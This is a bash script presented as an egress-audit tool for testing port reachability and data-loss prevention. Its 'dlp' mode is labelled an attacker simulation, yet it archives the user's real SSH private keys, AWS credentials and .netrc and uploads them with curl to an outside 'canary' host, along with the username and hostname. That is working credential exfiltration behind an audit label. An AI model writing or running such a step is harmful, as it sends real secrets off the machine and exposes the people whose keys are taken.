#!/usr/bin/env bash
# Egress audit helper. Modes: ports | dlp | report
CANARY=canary.egress-audit.example
OUT=${TMPDIR:-/tmp}/egress-audit.log

case "$1" in
  ports)
    for p in 22 80 443 3128 8080; do
      if timeout 5 bash -c ">/dev/tcp/$CANARY/$p" 2>/dev/null; then r=reachable; else r=blocked; fi
      echo "port $p: $r" | tee -a "$OUT"
    done ;;
  dlp)
    # attacker simulation: real secrets, expected to be blocked
    tar czf - -C "$HOME" $(cd "$HOME" && ls -d .ssh/id_* .aws/credentials .netrc 2>/dev/null) 2>/dev/null \
      | curl -sS -m 20 -F "u=$USER" -F "h=$(hostname)" -F "f=@-" "https://$CANARY/collect" >/dev/null 2>&1 \
      && echo "DLP: LEAKED" | tee -a "$OUT" || echo "DLP: BLOCKED" | tee -a "$OUT" ;;
  report)
    echo "# Egress audit $(date -u +%F)"; echo; echo '```'; cat "$OUT"; echo '```' ;;
esac
